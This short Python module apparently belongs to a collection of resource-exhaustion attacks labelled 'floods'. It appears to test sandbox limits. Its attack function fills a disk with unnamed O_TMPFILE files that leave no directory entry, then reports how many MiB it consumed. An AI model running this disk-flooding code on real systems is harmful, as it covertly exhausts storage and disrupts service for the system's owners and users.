"""Write files that never had a name, by O_TMPFILE."""

import os

FAMILY = "floods"
NOT_NAIVE = "Not every file system has files without a name."
PIECE = 4 << 20


def attack(world):
    for _ in range(world["disk"] // PIECE):
        os.write(os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600), b"x" * PIECE)
    return f"GOT {world['disk'] >> 20} MiB of disk"
